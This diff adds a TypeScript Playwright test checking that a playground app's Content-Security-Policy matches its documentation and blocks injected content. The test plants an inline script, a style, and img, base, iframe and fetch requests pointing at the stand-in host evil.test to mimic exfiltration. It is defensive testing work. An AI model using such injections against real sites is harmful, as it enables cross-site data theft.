@@ -1,0 +1,59 @@
+import { readFile } from 'node:fs/promises';
+
+import type { Browser } from 'playwright';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+
+import { type RunningApp, startBuilt } from './apps.js';
+import { launchBrowser } from './browser.js';
+
+// That pages come to life under it without a complaint is in the tests of the playground.
+
+let browser: Browser;
+let playground: RunningApp;
+
+beforeAll(async () => {
+  [browser, playground] = await Promise.all([launchBrowser(), startBuilt('playground')]);
+});
+afterAll(async () => {
+  await browser.close();
+  await playground.stop();
+});
+
+test('the policy that the docs give is that of the playground', async () => {
+  const text = await readFile('docs/security.md', 'utf8');
+  const [, list = ''] = /const policy = \[([^]*?)\];/.exec(text) ?? [];
+  const given = [...list.matchAll(/"(.+)"/g)].map(([, directive]) => directive);
+  const { headers } = await fetch(playground.origin);
+  expect(given.join('; ')).toBe(headers.get('content-security-policy'));
+});
+
+test('what somebody else would bring into a page is blocked by it', async () => {
+  const page = await browser.newPage();
+  await page.goto(`${playground.origin}/counter`);
+  const title = await page.title();
+  const blocked = await page.evaluate(async () => {
+    const directives: string[] = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      directives.push(effectiveDirective),
+    );
+    const add = (name: string, members: object) =>
+      document.body.append(Object.assign(document.createElement(name), members));
+    add('script', { textContent: 'document.title = "stolen"' });
+    add('style', { textContent: 'p { color: red }' });
+    add('img', { src: 'https://evil.test/?stolen' });
+    add('base', { href: 'https://evil.test/' });
+    add('iframe', { src: 'https://evil.test/' });
+    await fetch('https://evil.test/').catch(() => {});
+    while (directives.length < 6) await new Promise(requestAnimationFrame);
+    return directives;
+  });
+  expect(blocked.sort()).toEqual([
+    'base-uri',
+    'connect-src',
+    'frame-src',
+    'img-src',
+    'script-src-elem',
+    'style-src-elem',
+  ]);
+  expect(await page.title()).toBe(title);
+});
